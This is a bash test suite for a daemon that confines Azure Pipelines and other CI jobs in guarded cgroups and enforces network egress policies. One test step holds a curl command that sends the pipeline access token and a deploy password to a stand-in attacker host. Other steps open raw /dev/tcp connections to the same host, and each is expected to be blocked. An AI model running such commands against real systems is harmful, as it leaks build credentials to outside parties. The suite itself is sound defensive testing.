# shellcheck shell=bash
# SPDX-License-Identifier: GPL-2.0
# The daemon among agents as they are: Azure's under another user and in its own guarded cgroup, many
# jobs at once, containers in jobs, and mistakes in the configuration.

. "$HERE/daemon.sh"

# Azure's agent "build-7" in a guarded cgroup, with a policy of its own that allows next to nothing.
azure_guarded() {
	policy_feed
	cat >"$CASE/release.yaml" <<-END
	version: 1
	allow: [ tcp://other.example:8080 ]
	END
	cat >"$CASE/agent.yaml" <<-END
	version: 1
	allow: [ https://dev.azure.com ]
	END
	AZURE=on config <<-END
	policies:
	  - { agent: "build-*", pool: Default, project: Fabrikam, definition: "* of release*", policy: release.yaml }
	guard:
	  - { cgroup: "$AGENT_PATH", policy: agent.yaml, name: agents }
	END
	mkdir "$AGENT_CGROUP"
	daemon_start
	records_are
	azure_start build-7 "$AGENT_CGROUP"
}

# The agent's own guard ends with its cgroup.
azure_guarded_left() {
	wait_until 20 no_jobs || fail "cgroups are left: $(job_cgroups)"
	azure_stop
	rmdir "$AGENT_CGROUP"
	nothing_left
}

test_daemon_an_azure_job_has_its_policy_and_its_names() {
	azure_guarded
	step <<-END
	grep -q daemon/job- /proc/self/cgroup || exit 3
	$JOB tcp other.example 8080 || exit 4
	curl -s -m 5 --oauth2-bearer "\$SYSTEM_ACCESSTOKEN" -H "Authorization: Basic \$DEPLOY_PASSWORD" http://$EVIL4:8080 &&
		exit 5
	exit 0
	END
	azure_job build-7 release <<-END
	SYSTEM_JOBID=job-of-release
	BUILD_BUILDID=4711
	PLUGIN_SYSTEM_JOBID=another
	PLUGIN_SYSTEM_TEAMPROJECT=Another
	PLUGIN_SYSTEM_DEFINITIONNAME=forged by the env of a step
	step=$CASE/step
	END
	wait_until 20 jobs_know 1 '"AzpDefinitionName": "pipeline of release"' ||
		fail "the job's definition is not known: $(ctl jobs --json)"
	go
	azure_done build-7 release
	nothing_arrived "$EVIL4"
	recorded Reason=not-allowed DvcAction=Deny 'JobName=build-7.*' AzpJobId=job-of-release AzpBuildId=4711 \
		'AzpDefinitionName=pipeline of release' AzpProject=Fabrikam PolicyName=release \
		"CgroupPath=$DAEMON_PATH/job-*" SrcUserId=65534
	azure_guarded_left
	no_secret_in "$RECORDS" "$CASE/state" "$CASE/err" "$CASE/out"
}

no_secret_in() {
	local found
	found=$(grep -rl standin-secret "$@") && fail "a secret stands in $found"
	return 0
}

# Before the daemon can know of the worker, the policy of its agent's cgroup holds for it.
test_daemon_a_workers_first_instruction_is_refused() {
	azure_guarded
	local i
	for i in 1 2 3 4 5; do
		azure_job build-7 "early-$i" <<-END
		first=$EVIL4:$((9000 + i))
		END
	done
	for i in 1 2 3 4 5; do
		azure_done build-7 "early-$i"
		grep -q "first connect: Operation not permitted" "$CASE/build-7/_diag/early-$i.log" ||
			fail "its first connect: $(azure_log build-7 "early-$i")"
	done
	nothing_arrived "$EVIL4"
	azure_guarded_left
	for i in 1 2 3 4 5; do
		count EventResult=Failure "DstPortNumber=$((9000 + i))" Reason=not-allowed
		[ "$COUNT" = 1 ] || fail "the first connect of job $i is recorded $COUNT times"
	done
}

# The daemon may begin late: what the worker started meanwhile is part of its job nevertheless.
test_daemon_children_of_a_worker_are_moved_with_it() {
	policy_feed
	AZURE=on config </dev/null
	azure_start build-7 "$AGENT_CGROUP"
	step <<-END
	$JOB tcp $EVIL4 8080 && exit 3
	exit 0
	END
	cat >"$CASE/outer" <<-END
	touch "\$CASE/marks/begun"
	bash "\$CASE/step"
	END
	azure_job build-7 late <<-END
	step=$CASE/outer
	SYSTEM_JOBID=late
	END
	wait_until 20 test -e "$CASE/marks/begun" || fail "the job did not begin"
	daemon_start
	records_are
	wait_until 20 jobs_know 1 '"AzpJobId": "late"' || fail "the job is not known"
	go
	azure_done build-7 late
	nothing_arrived "$EVIL4"
	recorded EventResult=Failure AzpJobId=late
	nothing_left
}

# Nothing holds a worker forever: not a daemon that is killed, nor one that is stopped.
test_daemon_a_held_worker_goes_on_whatever_becomes_of_the_daemon() {
	local signal
	policy_feed
	AZURE=on config </dev/null
	daemon_start
	records_are
	azure_start build-7 "$AGENT_CGROUP"
	for signal in KILL TERM; do
		kill -STOP $DAEMON
		printf 'first=%s\n' "$EVIL4:8080" | azure_job build-7 $signal
		wait_until 20 held || { kill -CONT $DAEMON; fail "the worker is not held"; }
		kill -$signal $DAEMON
		kill -CONT $DAEMON 2>/dev/null
		wait $DAEMON 2>/dev/null
		if [ $signal = KILL ]; then
			sleep 0.5
			held || fail "the worker was let go without a guard"
			daemon_start
			azure_done build-7 KILL
			grep -q "first connect: Operation not permitted" "$CASE/build-7/_diag/KILL.log" ||
				fail "its first connect: $(azure_log build-7 KILL)"
			nothing_arrived "$EVIL4"
			nothing_left
			count EventResult=Failure
			[ "$COUNT" = 1 ] || fail "one attempt, but $COUNT recorded"
		fi
	done
	# With a guard or without, as the daemon chanced to see first; it is not held.
	azure_done build-7 TERM
	daemon_start
	nothing_left
	azure_stop
}

# Two agents, a hundred jobs each, all at once: each has its own cgroup, name and records.
test_daemon_two_agents_and_200_jobs_at_once() {
	local i agent each=$LOAD begin=$EPOCHREALTIME
	policy_feed
	AZURE=on config <<-END
	limits: { jobs: 250 }
	END
	daemon_start
	records_are
	step <<-END
	sed -n 's/^0:://p' /proc/self/cgroup >"\$CASE/marks/\$AGENT_JOBNAME"
	for try in 1 2; do (exec 3<>/dev/tcp/$EVIL4/8080) && exit 3; done
	exit 0
	END
	for agent in north south; do
		azure_start $agent "$CASE_CGROUP/$agent" $each
		for i in $(seq $each); do
			printf 'SYSTEM_JOBID=id-%s-%d\nBUILD_BUILDID=%d\nstep=%s\n' $agent "$i" "$i" "$CASE/step" |
				azure_job $agent "$agent-$i"
		done
	done
	wait_until 60 jobs_know $((2 * each)) '"AzpJobId": "id-' || fail "only $(job_cgroups | wc -l) jobs have cgroups"
	jobs_know $each '"agent": "north"' || fail "the agents' names are not told apart"
	local known=$EPOCHREALTIME
	go
	for i in $(seq $each); do azure_done north "north-$i" && azure_done south "south-$i"; done
	local done=$EPOCHREALTIME
	wait_until 60 no_jobs
	nothing_left
	azure_stop
	rmdir "$CASE_CGROUP/north" "$CASE_CGROUP/south"
	echo "# $((2 * each)) jobs known after $(((${known/./} - ${begin/./}) / 1000)) ms, done after" \
		"$(((${done/./} - ${known/./}) / 1000)) ms, gone after $(((${EPOCHREALTIME/./} - ${done/./}) / 1000)) ms"
	count EventResult=Failure
	[ "$COUNT" = $((4 * each)) ] || fail "$COUNT attempts of $((2 * each)) jobs are recorded"
	nothing_arrived "$EVIL4"
	$PYTHON - "$RECORDS" "$CASE/marks" $((2 * each)) >"$CASE/out" <<-'END' || fail "not one job's: $(tail -n 3 "$CASE/out")"
	import collections, json, os, sys
	jobs = collections.defaultdict(lambda: [0, set()])
	for record in map(json.loads, open(sys.argv[1])):
	    job = jobs[record["AzpJobId"]]
	    job[0] += record["EventCount"]
	    job[1].add((record["JobName"], record["CgroupPath"]))
	cgroups = set()
	for name in os.listdir(sys.argv[2]):
	    own = open(os.path.join(sys.argv[2], name)).read().strip()
	    cgroups.add(own)
	    count, where = jobs["id-" + name]
	    agent = name.split("-")[0] + "."
	    if count != 2 or [path for job, path in where if job.startswith(agent)] != [own]:
	        sys.exit(print(name, own, count, where) or 1)
	sys.exit(len(cgroups) != int(sys.argv[3]) and (print(len(cgroups), "cgroups") or 1))
	END
}

# On Azure's machines the VM agent may be what runs the build agent: the worker is guarded, it is not.
test_daemon_the_vm_agent_stays_unguarded() {
	local unit=$CASE_CGROUP/azure.slice/walinuxagent.service name
	policy_feed
	AZURE=on config </dev/null
	daemon_start
	records_are
	azure_start build-7 "$unit"
	step <<-END
	$JOB tcp $EVIL4 8080 && exit 3
	exit 0
	END
	printf 'step=%s\nfirst=%s\n' "$CASE/step" "$EVIL4:9000" | azure_job build-7 alpha
	wait_until 20 jobs_know 1 '"AzpDefinitionName": "pipeline of alpha"' || fail "the job is not known"
	inside "$unit" $JOB tcp $EVIL4 8080 >/dev/null || fail "the VM agent is guarded"
	! ctl attach --job vm --cgroup "$unit" 2>"$CASE/err2" || fail "the VM agent can be attached"
	grep -q "walinuxagent.service holds the Azure VM agent" "$CASE/err2" || fail "it says: $(cat "$CASE/err2")"
	go
	azure_done build-7 alpha
	inside "$unit" $JOB tcp $EVIL4 8080 >/dev/null || fail "the VM agent is guarded afterwards"
	nothing_left
	recorded EventResult=Failure 'JobName=build-7.*' "CgroupPath=$DAEMON_PATH/job-*"
	recorded EventResult=Failure DstPortNumber=9000 "CgroupPath=$DAEMON_PATH/job-*"
	grep -q "first connect: Operation not permitted" "$CASE/build-7/_diag/alpha.log" ||
		fail "the worker's first connect: $(azure_log build-7 alpha)"
	azure_stop
	rmdir "$unit" "${unit%/*}"
}

# A container runtime makes cgroups below that of the job that started it.
test_daemon_a_cgroup_below_a_jobs_is_guarded_and_removed() {
	daemon_with_feed
	step <<-END
	$JOB tcp $EVIL4 8080 && touch "\$CASE/marks/open"
	$JOB tcp feed.example 8080 >/dev/null && touch "\$CASE/marks/feed"
	touch "\$CASE/marks/over"
	END
	cat >"$CASE/runtime" <<-END
	box=$CGROUP2\$(sed -n 's/^0:://p' /proc/self/cgroup)/docker/box
	mkdir -p "\$box"
	(echo \$BASHPID >"\$box/cgroup.procs" && exec bash "$CASE/step") </dev/null >/dev/null 2>&1 &
	until grep -q \$! "\$box/cgroup.procs"; do sleep 0.02; done
	END
	forge alpha bash "$CASE/runtime"
	jobs_are 1 || fail "the job's cgroup went, with processes below"
	go
	wait_until 20 test -e "$CASE/marks/over" || fail "the container did not end"
	[ ! -e "$CASE/marks/open" ] || fail "the container reached $EVIL4"
	[ -e "$CASE/marks/feed" ] || fail "the container cannot reach the feed"
	nothing_left
	recorded EventResult=Failure ForgeJobId=alpha
}

# daemon_refuses TEXT: it ends with status 1 and quotes that.
daemon_refuses() {
	STATUS=0
	timeout -k 5 $((20 * SLOW)) "$BUILDFENCE" daemon --config "$CASE/config.yaml" >"$CASE/out" 2>"$CASE/err" || STATUS=$?
	status_is 1
	says "$1"
	cp "$CASE/good.yaml" "$CASE/policy.yaml"
}

test_daemon_broken_files_at_the_start_leave_jobs_guarded() {
	daemon_with_feed
	cp "$CASE/policy.yaml" "$CASE/good.yaml"
	step <<-END
	$JOB tcp $EVIL4 8080 && touch "\$CASE/marks/open"
	$JOB tcp feed.example 8080 >/dev/null && touch "\$CASE/marks/feed"
	touch "\$CASE/marks/tried"
	until [ -e "\$CASE/again" ]; do sleep 0.02; done
	$JOB tcp $EVIL4 8080 && touch "\$CASE/marks/open"
	exit 0
	END
	forge alpha bash "$CASE/step" >/dev/null 2>&1 &
	local job=$!
	wait_until 20 jobs_know 1 '"ForgeJobId": "alpha"' || fail "the job is not known"
	daemon_kill KILL
	printf 'version: 1\nallow: [ "https://feed.example:99999" ]\n' >"$CASE/policy.yaml"
	daemon_refuses "policy.yaml:2:.*99999"
	sed -i 's/^azure: off/azure: perhaps/' "$CASE/config.yaml"
	daemon_refuses "config.yaml:.*perhaps"
	sed -i 's/^azure: perhaps/azure: off/' "$CASE/config.yaml"
	mv "$CASE/policy.yaml" "$CASE/moved.yaml"
	daemon_refuses "policy.yaml"
	go
	wait_until 20 test -e "$CASE/marks/tried" || fail "the job did not go on"
	[ -e "$CASE/marks/feed" ] || fail "the job cannot reach its feed any more"
	daemon_start
	says "took over 1 guarded job"
	touch "$CASE/again"
	wait $job
	[ ! -e "$CASE/marks/open" ] || fail "the job reached $EVIL4"
	nothing_left
	count ForgeJobId=alpha EventResult=Failure
	[ "$COUNT" = 2 ] || fail "$COUNT attempts are recorded, not 2"
}

# SIGHUP: agents and guarded cgroups come, running jobs stay, and what needs a restart is told.
test_daemon_sighup_takes_a_new_configuration() {
	local unit=$CASE_CGROUP/unit line
	daemon_with_feed
	inside "$unit" $JOB tcp $EVIL4 8080 >/dev/null || fail "not reachable without a guard"
	hang_up() {
		: >"$CASE/err"
		kill -HUP $DAEMON
		wait_until 10 grep -q "reloaded" "$CASE/err" || fail "the daemon does not reload"
	}
	AZURE=on config <<-END
	guard:
	  - { cgroup: "${unit#"$CGROUP2"}" }
	END
	hang_up
	says_not "after a restart"
	wait_until 10 ctl status --cgroup "$unit" >/dev/null || fail "the new cgroup is not guarded"
	! inside "$unit" $JOB tcp $EVIL4 8080 2>/dev/null || fail "it reached $EVIL4"
	azure_start build-7 "$AGENT_CGROUP"
	step </dev/null
	printf 'step=%s\n' "$CASE/step" | azure_job build-7 alpha
	wait_until 10 jobs_know 1 '"AzpDefinitionName": "pipeline of alpha"' || fail "the new agent's job is not seen"
	go
	azure_done build-7 alpha
	for line in 'limits: { jobs: 8 }' "cgroup: $AGENT_PATH"; do
		config </dev/null
		[ "${line%%:*}" != cgroup ] || sed -i '/^cgroup:/d' "$CASE/config.yaml"
		echo "$line" >>"$CASE/config.yaml"
		hang_up
		says "act only after a restart"
	done
	recorded EventResult=Failure "CgroupPath=${unit#"$CGROUP2"}" JobName=guarded:*
	forge beta $JOB tcp feed.example 8080 >/dev/null || fail "jobs are not taken any more"
	rmdir "$unit"
	nothing_left
}

# By its programs' names and a file of its own a job of `run` is an agent's worker, whose pool allows more.
test_daemon_a_false_worker_in_a_run_stays_in_it() {
	policy_feed
	AZURE=on config <<-END
	policies:
	  - { pool: release, policy: open.yaml }
	END
	printf 'version: 1\nallow: [ "tcp://%s:8080" ]\n' "$EVIL4" >"$CASE/open.yaml"
	daemon_start
	mkdir -p "$CASE/false/bin"
	cp /bin/bash "$CASE/false/bin/Agent.Listener"
	cp /bin/bash "$CASE/false/bin/Agent.Worker"
	echo '{"agentName":"x","poolName":"release"}' >"$CASE/false/.agent"
	chmod -R a+rX "$CASE"
	guarded -- "$CASE/false/bin/Agent.Listener" -c "'$CASE/false/bin/Agent.Worker' -c 'sleep 2; grep . /proc/self/cgroup; $JOB tcp $EVIL4 8080 && echo reached; :'; :"
	! grep -q "reached" "$CASE/out" || fail "it reached $EVIL4: $(cat "$CASE/out")"
	prints "^0::.*/buildfence-"
	recorded DstIpAddr="$EVIL4" EventResult=Failure
	! grep -q "job 'x" "$CASE/err" || fail "the daemon took it: $(cat "$CASE/err")"
	no_jobs || fail "the daemon made a job of it: $(job_cgroups)"
	nothing_left
}
